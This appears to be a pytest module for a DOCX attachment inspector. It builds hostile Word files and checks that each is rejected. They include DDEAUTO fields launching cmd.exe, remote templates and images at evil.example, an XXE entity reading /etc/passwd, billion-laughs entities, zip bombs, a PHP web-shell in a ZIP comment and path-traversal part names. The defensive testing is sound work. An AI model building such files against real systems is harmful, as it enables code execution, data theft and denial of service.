"""DOCX files as attackers write them, each made here from a good one, and good ones beside them."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable, Mapping
from functools import cache
from pathlib import Path

import pytest
from docx import Document
from PIL import Image

from wsis_consultation.attachments.inspection import DOCX, Rejection, inspect

TYPES, RELS, MAIN, MAIN_RELS = "[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">%s]>'


@cache
def _parts() -> dict[str, bytes]:
    """The parts of a document with a table, an image and a header."""
    picture = io.BytesIO()
    Image.new("RGB", (40, 20), "navy").save(picture, "PNG")
    document = Document()
    document.add_heading("Contribution", 1)
    document.add_paragraph("À propos de l’égalité d’accès: 平等 المساواة")
    document.add_table(2, 2).cell(0, 0).text = "C3"
    document.add_picture(picture)
    document.sections[0].header.paragraphs[0].text = "WSIS Forum 2017"
    out = io.BytesIO()
    document.save(out)
    with zipfile.ZipFile(out) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zipped(parts: Mapping[str, bytes] | list[tuple[str, bytes]], prefix: bytes = b"") -> bytes:
    out = io.BytesIO(prefix)
    out.seek(len(prefix))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # of names that stand twice
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in parts.items() if isinstance(parts, Mapping) else parts:
                archive.writestr(name, content)
    return out.getvalue()


def _with(**more: bytes) -> bytes:
    """The document with further or other parts: "/" is written as "__" in their names."""
    return _zipped({**_parts(), **{name.replace("__", "/"): content for name, content in more.items()}})


def _replaced(name: str, old: bytes, new: bytes) -> bytes:
    content = _parts()[name]
    assert old in content
    return _zipped({**_parts(), name: content.replace(old, new, 1)})


def _related(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    relation = f'<Relationship Id="rX" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return _replaced(MAIN_RELS, b"</Relationships>", relation.encode())


def _field(*runs: str) -> bytes:
    text = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    text += "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    text += '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return _replaced(MAIN, b"<w:p>", f"<w:p>{text}</w:p><w:p>".encode())


def _override(kind: str) -> bytes:
    return _replaced(TYPES, b"</Types>", f'<Override PartName="/word/x" ContentType="{kind}"/></Types>'.encode())


def _flagged() -> bytes:
    """Each entry claims to be encrypted."""
    content = bytearray(_zipped(_parts()))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := content.find(mark, start + 1)) >= 0:
            content[start + place] |= 1
    return bytes(content)


def _overlapping() -> bytes:
    """Many names for one compressed kernel, after David Fifield's zip bomb: they share their bytes."""
    good = _zipped({**_parts(), "word/media/kernel.bin": b"\0" * 3_000_000})
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        entries = archive.infolist()
        start = archive.start_dir
    kernel = entries[-1]
    directory = bytearray(good[start : good.rindex(b"PK\x05\x06")])
    for number in range(400):
        name = b"word/media/%06d.bin" % number
        directory += (
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                kernel.CRC,
                kernel.compress_size,
                kernel.file_size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                kernel.header_offset,
            )
            + name
        )
    count = len(entries) + 400
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    return good[:start] + bytes(directory) + end


def _lying() -> bytes:
    """A part that unpacks to 150 MB and claims ten bytes, in both of its headers."""
    content = bytearray(_with(word__media__big=b"\0" * 150_000_000))
    size = struct.pack("<L", 150_000_000)
    while (place := content.find(size)) >= 0:
        content[place : place + 4] = struct.pack("<L", 10)
    return bytes(content)


def _workbook() -> bytes:
    """A workbook under the name of a document."""
    parts = dict(_parts())
    parts[TYPES] = parts[TYPES].replace(b"wordprocessingml.document.main", b"spreadsheetml.sheet.main")
    return _zipped(parts)


def _bombs() -> bytes:
    return _zipped({**_parts(), **{f"word/media/{number}.bin": b"\0" * 30_000_000 for number in range(4)}})


HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "macros": ("scripts", lambda: _with(**{"word__vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "macros under another name": ("scripts", lambda: _override("application/vnd.ms-office.vbaProject")),
    "document with macros enabled": (
        "scripts",
        lambda: _replaced(
            TYPES,
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    ),
    "relation to macros": (
        "scripts",
        lambda: _related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin", ""),
    ),
    "script in a picture": (
        "scripts",
        lambda: _with(
            **{"word__media__x.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'}
        ),
    ),
    "embedded object": ("embedded", lambda: _with(**{"word__embeddings__oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
    "embedded program": ("embedded", lambda: _with(**{"word__media__run.exe": b"MZ"})),
    "embedded package": ("embedded", lambda: _related(f"{OFFICE}/package", "embeddings/a.xlsx", "")),
    "control": ("embedded", lambda: _with(**{"word__activeX__activeX1.xml": b"<x/>"})),
    "another document in it": ("embedded", lambda: _related(f"{OFFICE}/aFChunk", "x.mht", "")),
    "template from elsewhere": (
        "external",
        lambda: _related(f"{OFFICE}/attachedTemplate", "https://evil.example/t.dotm"),
    ),
    "picture from elsewhere": ("external", lambda: _related(f"{OFFICE}/image", "https://evil.example/pixel.png")),
    "picture from a file server": ("external", lambda: _related(f"{OFFICE}/image", r"\\evil.example\share\x.png")),
    "picture from elsewhere that claims to be inside": (
        "external",
        lambda: _related(f"{OFFICE}/image", "https://evil.example/pixel.png", ""),
    ),
    "link that is a script": ("external", lambda: _related(f"{OFFICE}/hyperlink", "javascript:alert(1)")),
    "link to a file": ("external", lambda: _related(f"{OFFICE}/hyperlink", "file:///c:/windows/x.exe")),
    "field that starts a program": ("external", lambda: _field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),
    "the same field in pieces": ("external", lambda: _field("DD", "EAU", 'TO cmd "/k calc"')),
    "field that loads a text": ("external", lambda: _field('INCLUDETEXT "https://evil.example/x"')),
    "field in a field": (
        "external",
        lambda: _replaced(
            MAIN,
            b"<w:p>",
            b'<w:p><w:fldSimple w:instr="IF 1 = 1"><w:fldSimple w:instr=" dde cmd x"/></w:fldSimple></w:p><w:p>',
        ),
    ),
    "field in a field, in pieces": (
        "external",
        lambda: _field(
            'IF 1 = 1 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd x'
        ),
    ),
    "field of a strict document": (
        "external",
        lambda: _with(
            **{
                "word__extra.xml": b'<w:instrText xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main">'
                b"DDE cmd x</w:instrText>"
            }
        ),
    ),
    "entities in a part that is XML by its type alone": (
        "entities",
        lambda: _zipped(
            {
                **_parts(),
                "word/x": DTD % b"" + b"<x>&a;</x>",
                TYPES: _parts()[TYPES].replace(
                    b"</Types>", b'<Override PartName="/Word/X" ContentType="application/x+xml"/></Types>'
                ),
            }
        ),
    ),
    "external entity": (
        "entities",
        lambda: _with(**{"word__document.xml": DTD % b'<!ENTITY e SYSTEM "file:///etc/passwd">' + b"<x>&e;</x>"}),
    ),
    "billion laughs": (
        "entities",
        lambda: _with(**{"word__document.xml": DTD % b'<!ENTITY b "&a;&a;&a;&a;&a;">' + b"<x>&b;</x>"}),
    ),
    "entities in the content types": ("entities", lambda: _with(**{TYPES: DTD % b"" + b"<Types/>"})),
    "entities in a part of its own": ("entities", lambda: _with(**{"customXml__item1.xml": DTD % b"" + b"<x>&a;</x>"})),
    "entities in UTF-16": (
        "entities",
        lambda: _with(
            **{"customXml__item1.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x []><x/>'.encode("utf-16")}
        ),
    ),
    "bomb": ("expands", lambda: _with(**{"word__media__big.bin": b"\0" * 120_000_000})),
    "many bombs": ("expands", _bombs),
    "entries that overlap": ("expands", _overlapping),
    "thousands of parts": ("expands", lambda: _zipped({**_parts(), **{f"word/{n}": b"" for n in range(2000)}})),
    "elements in elements": ("expands", lambda: _with(**{"customXml__item1.xml": b"<a>" * 5000 + b"</a>" * 5000})),
    "password": ("encrypted", _flagged),
    "archive behind a picture": ("polyglot", lambda: _zipped(_parts(), b"\x89PNG\r\n\x1a\n")),
    "archive behind a PDF": ("polyglot", lambda: _zipped(_parts(), b"%PDF-1.7\n" + b" " * 50)),
    "page of the web behind the end": ("polyglot", lambda: _zipped(_parts()) + b"<script>alert(1)</script>"),
    "much behind the end": ("damaged", lambda: _zipped(_parts()) + b"<script>alert(1)</script>" * 5000),
    "comment": ("polyglot", lambda: _commented()),
    "size that is a lie": ("damaged", _lying),
    "part that stands twice": ("damaged", lambda: _zipped([*_parts().items(), (MAIN, _parts()[MAIN])])),
    "part in two spellings": ("damaged", lambda: _with(**{"Word__Document.xml": b"<x/>"})),
    "part outside": ("damaged", lambda: _with(**{"..__..__etc__cron.d__x": b"x"})),
    "part on a drive": ("damaged", lambda: _with(**{"c:\\x": b"x"})),
    "workbook under another name": ("damaged", _workbook),
    "archive of anything": ("damaged", lambda: _zipped({"a.txt": b"x"})),
    "no archive": ("damaged", lambda: b"PK\x03\x04 and so on"),
    "cut": ("damaged", lambda: _zipped(_parts())[:-500]),
    "XML that is none": ("damaged", lambda: _with(**{"word__document.xml": b"<w:document"})),
}


def _commented() -> bytes:
    out = io.BytesIO(_zipped(_parts()))
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"<?php system($_GET[0]);"
    return out.getvalue()


GOOD: dict[str, Callable[[], bytes]] = {
    "as written": lambda: _zipped(_parts()),
    "with links": lambda: _related(f"{OFFICE}/hyperlink", "https://www.itu.int/wsis"),
    "with a mail link": lambda: _related(f"{OFFICE}/hyperlink", "mailto:wsis-info@itu.int"),
    "with page numbers": lambda: _field(" PAGE ", r"\* MERGEFORMAT"),
    "with a link whose address has words of fields": lambda: _field('HYPERLINK "https://itu.int/link/database import"'),
    "with a contents field": lambda: _field(r'TOC \o "1-3" \h'),
    "stored without compression": lambda: _stored(),
}


def _stored() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, content in _parts().items():
            archive.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_file_is_refused_with_its_reason(name: str, tmp_path: Path) -> None:
    reason, make = HOSTILE[name]
    file = tmp_path / "input.docx"
    file.write_bytes(make())
    with pytest.raises(Rejection) as refused:
        inspect(file, DOCX)
    assert str(refused.value) == reason


@pytest.mark.parametrize("name", GOOD)
def test_good_file_is_accepted(name: str, tmp_path: Path) -> None:
    file = tmp_path / "input.docx"
    file.write_bytes(GOOD[name]())
    inspect(file, DOCX)
